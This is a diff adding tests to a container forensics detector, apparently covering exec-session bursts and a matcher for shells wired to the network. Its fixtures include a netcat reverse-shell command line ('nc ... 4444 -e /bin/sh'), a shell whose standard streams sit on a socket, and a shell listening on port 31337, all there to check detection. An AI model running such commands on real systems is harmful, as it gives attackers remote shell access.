@@ -414,6 +414,8 @@ describe('rules over whole fixture cases', () => {
     );
     for (const f of doc.findings.filter((x) => x.rule !== 'secret-in-environment'))
       expect(f.events.length).toBeGreaterThan(0);
+    // Findings carry their time: that of their earliest event.
+    expect(byRule('executable-in-temp')[0].time).toMatch(/^2026-11-28T20:00:01\.\d{6}\+00:00$/);
   });
 
   test('the clean control case of the same image: no finding', async () => {
@@ -421,5 +423,95 @@ describe('rules over whole fixture cases', () => {
     expect(ev.processes?.list.length).toBe(2);
     const doc = await computeFindings(await openCaseSource(clean));
     expect(doc.findings).toEqual([]);
+  });
+});
+
+describe('exec sessions in bursts', () => {
+  const session = (execId: string, s: number, command = `cmd ${execId}`) => ({
+    execId,
+    command,
+    createdAt: { us: Date.UTC(2026, 10, 28, 20, 0, s) * 1000 },
+    refs: [{ artifact: 'container/events.jsonl', line: s + 1 }],
+  });
+
+  test('sessions close together are one finding listing them; a later one is its own; 0 keeps them apart', () => {
+    const ev = evidence({
+      execs: {
+        sessions: [session('a', 0), session('b', 30), session('c', 100), session('d', 900)],
+      },
+    });
+    const m = matchers.get('exec')!;
+    const found = m.match(m.params.parse({}), ev);
+    expect(found.map((f) => f.key)).toEqual(['a', 'd']);
+    expect(found[0].summary).toBe('3 exec sessions within 100 s: a: cmd a; b: cmd b; c: cmd c');
+    expect(found[0].evidence.map((e) => e.ref.line)).toEqual([1, 31, 101]);
+    expect(m.match(m.params.parse({ burstSeconds: 0 }), ev)).toHaveLength(4);
+  });
+});
+
+describe('shells wired to the network', () => {
+  const p = (
+    pid: number,
+    comm: string,
+    cmdline: string[],
+    fds: { fd: number; target: string }[] = [],
+  ) => ({
+    pid,
+    nspid: pid,
+    ppid: 1,
+    comm,
+    cmdline,
+    exe: null,
+    entry: pid,
+    fds,
+  });
+  test('a shell on a socket, nc -e, a listening shell; a shell on a tty and a plain nc are not', () => {
+    const ev = evidence({
+      processes: {
+        artifact: 'proc/processes.json',
+        list: [
+          p(
+            7,
+            'sh',
+            ['sh'],
+            [
+              { fd: 0, target: 'socket:[4242]' },
+              { fd: 1, target: 'socket:[4242]' },
+              { fd: 2, target: 'socket:[4242]' },
+            ],
+          ),
+          p(8, 'sh', ['sh', '-i'], [{ fd: 0, target: '/dev/pts/0' }]),
+          p(9, 'nc', ['nc', '172.18.0.2', '4444', '-e', '/bin/sh']),
+          p(10, 'nc', ['nc', '-l', '-p', '8080']),
+        ],
+      },
+      sockets: [
+        {
+          proto: 'tcp',
+          localAddress: '0.0.0.0',
+          localPort: 31337,
+          remoteAddress: null,
+          remotePort: null,
+          state: 'LISTEN',
+          processes: ['sh'],
+          phase: 'before-isolation',
+          artifact: 'net/before-isolation/sockets.json',
+          entry: 0,
+        },
+      ],
+    });
+    const m = matchers.get('shellSocket')!;
+    const found = m.match(m.params.parse(true), ev);
+    expect(found.map((f) => f.key)).toEqual([
+      'fd-7',
+      'nc-9',
+      'listen-before-isolation-0.0.0.0:31337',
+    ]);
+    expect(found[0].summary).toMatch(
+      /stdin, stdout, stderr on a socket \(socket:\[4242\]\): a reverse or bind shell/,
+    );
+    expect(found[1].summary).toMatch(
+      /runs a program for whoever connects: nc 172\.18\.0\.2 4444 -e \/bin\/sh/,
+    );
   });
 });
